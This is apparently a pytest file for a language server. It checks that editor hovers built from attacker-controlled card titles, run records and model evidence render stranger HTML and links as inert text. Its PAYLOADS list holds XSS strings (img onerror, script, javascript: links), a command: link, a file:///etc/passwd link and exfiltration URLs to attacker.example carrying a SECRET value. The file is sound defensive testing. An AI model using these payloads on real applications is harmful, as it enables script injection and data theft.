"""What the editor renders is inert (issue 38, item 6): a hover on a card whose title, last run
and a run's evidence carry a stranger's HTML, links and images shows them as text.

The card is the attacker's (an imported issue's title, a repository's card), and so is what the
model repeats from it. The hover's Markdown comes from the real language server through the
in-process client, and is rendered the way an editor renders it at its most permissive (HTML
allowed, bare URLs linkified): no tag, no link, no image may come out — and the card's words
must still be there to read."""

from __future__ import annotations

import html
import re
import uuid
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from lsprotocol import types
from markdown_it import MarkdownIt
from pytest_lsp import LanguageClient

from cardrunner.lsp.core import protocolnames as names
from tests.support.inprocess import InProcessEditor
from tests.support.lsp import (
    command,
    editor_of,
    final,
    make_project,
    project_of,
    report,
    tool,
    turn,
    wait_for,
)

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![pixel](https://attacker.example/p.png?d=SECRET)",
    "[open a terminal](command:workbench.action.terminal.new)",
    "[click](javascript:alert(1))",
    "[home](file:///etc/passwd)",
    "<https://attacker.example/auto>",
    "https://attacker.example/?leak=SECRET",
    "**bold** `tick` ```fence",
]
HOSTILE = " ".join(PAYLOADS)

CARD = """---
title: {title}
state: Failed
reason: {reason}
last_run: {{id: "r1 <b>x</b>", result: failed, reason: "{reason}", rounds: 3, tokens: 9000,
  cost_usd: 0.42}}
---
The greeting should be friendly.

## Acceptance criteria

- The greeting says hello.
- The greeting names the user.
"""


def rendered(markdown: str) -> str:
    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table"])
    return md.render(markdown)


ALLOWED_TAGS = {"p", "strong", "code", "pre", "ul", "li"}
"""What the hover's own labels, code spans and fenced blocks render to; nothing else may."""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_inert(markdown: str) -> str:
    """The hover rendered; fails on any tag or attribute the stranger's text could have made."""
    out = rendered(markdown)
    tags = _Tags()
    tags.feed(out)
    live = [(t, a) for t, a in tags.found if t not in ALLOWED_TAGS or (a and t != "code")]
    assert live == [], (live, markdown, out)
    return out


def text_of(out: str) -> str:
    """The rendered HTML's text, as a reader sees it (tags stripped, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]+>", "", out))


async def hover(editor: InProcessEditor, uri: str, line: int) -> str:
    found: dict[str, Any] | None = await editor.request(
        "textDocument/hover",
        {"textDocument": {"uri": uri}, "position": {"line": line, "character": 2}},
    )
    assert found is not None
    assert found["contents"]["kind"] == "markdown"
    return str(found["contents"]["value"])


async def test_a_hostile_title_and_last_run_hover_as_text(tmp_path: Path) -> None:
    project = make_project(tmp_path / "ws", f"cardrunner-test-{uuid.uuid4().hex[:12]}")
    title = '"' + HOSTILE.replace('"', '\\"') + '"'
    reason = "model_failed"
    card = project.write_card("hostile", text=CARD.format(title=title, reason=reason))
    editor = InProcessEditor(project.root)
    await editor.start()
    try:
        markdown = await hover(editor, editor.open(card), 1)
    finally:
        await editor.stop()
    out = assert_inert(markdown)
    seen = " ".join(text_of(out).split())
    for payload in PAYLOADS:  # escaped, not dropped: the card's words stay readable
        assert payload in seen, (payload, seen)
    assert "r1 <b>x</b>" in seen


async def test_model_evidence_in_a_criterion_hover_is_text(client: LanguageClient) -> None:
    """The model repeats the stranger's text as evidence and as its failure: the hovers on the
    criteria and the title, from the real server over stdio, render it as text."""
    project, editor = project_of(client), editor_of(client)
    card = project.write_card("evidence", title="Friendly greeting")
    project.transcript(
        "evidence",
        [
            turn(
                tool("read_file", "toolu_read", path="src/app.py"),
                report(1, f"says hello {HOSTILE}", "toolu_read", "def greet(name)"),
            ),
            turn(tool("report_criterion", index=2, passed=False, evidence=HOSTILE)),
            final(f"RESULT: failed: {HOSTILE}"),
        ],
    )
    uri = editor.open(card)
    await command(client, names.RUN, uri)
    await wait_for(lambda: (editor.last_status(uri) or {}).get("state") == "failed", what="the run")
    lines = editor.text(uri).splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("- The greeting says"))
    title = next(i for i, line in enumerate(lines) if line.startswith("title:"))
    for line in (first, first + 1, title):
        found = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                position=types.Position(line, 3),
            )
        )
        assert found is not None and isinstance(found.contents, types.MarkupContent)
        seen = " ".join(text_of(assert_inert(found.contents.value)).split())
        if line != title:
            assert "<img src=x onerror=alert(1)>" in seen, seen
            assert "[open a terminal](command:workbench.action.terminal.new)" in seen, seen
